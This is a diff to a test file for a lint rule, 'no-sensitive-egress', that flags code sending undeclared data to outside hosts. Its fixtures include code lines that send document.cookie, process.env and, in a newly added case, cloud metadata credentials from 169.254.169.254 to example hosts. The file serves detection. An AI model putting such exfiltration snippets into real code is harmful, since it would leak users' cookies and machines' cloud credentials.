@@ -23,12 +23,17 @@ tester.run('no-sensitive-egress', rule, {
     { name: 'more than is followed, to where nobody knows and no-undeclared-egress says so', filename, code: `${tangled(3000)}import { at } from 'anywhere'; fetch(at(), ${body('a3000')});` },
     { name: 'what a started program says, for what it was started with', filename, code: "import { start } from 'starts-programs'; export const f = async () => { const program = start({ env: process.env }); new WebSocket(await program.waitForAddress()); }" },
     { name: 'an address that nobody knows, beside a name', filename, code: "import { at } from 'anywhere'; const kept = { email: at() }; export const f = (key: string) => fetch(at({ email: kept.email })[key]);" },
+    { name: 'the answer of a service that hands out nothing by itself', filename, code: `fetch('http://localhost/latest').then((answer) => answer.text()).then((text) => fetch('https://quiet.example.com', ${body('text')}))` },
     { name: 'a credential that says who calls', filename, code: "fetch('https://quiet.example.com', { headers: { authorization: process.env.API_TOKEN } })" },
   ],
   invalid: [
     {
       name: 'data that the entry does not declare', filename, code: `fetch('https://quiet.example.com', ${body('document.cookie')})`,
       errors: [{ messageId: 'uncovered', data: { api: 'fetch', via: '', data: 'document.cookie (user.device.cookie)', to: 'https://quiet.example.com', endpoint: 'quiet', categories: 'user.device.cookie', path: 'src/example.ts:1' }, line: 1, column: 1, endLine: 1, endColumn: 78 }],
+    },
+    {
+      name: 'credentials of the machine, which a metadata service hands out', filename, code: `const f = async () => { const answer = await fetch('http://169.254.169.254/latest'); await fetch('https://quiet.example.com', ${body('await answer.text()')}); }`,
+      errors: [{ messageId: 'uncovered', line: 1, column: 92, endLine: 1, endColumn: 173 }],
     },
     {
       name: 'a destination that nothing declares', filename, code: `fetch('https://out.example.com', ${body('navigator.userAgent')})`,
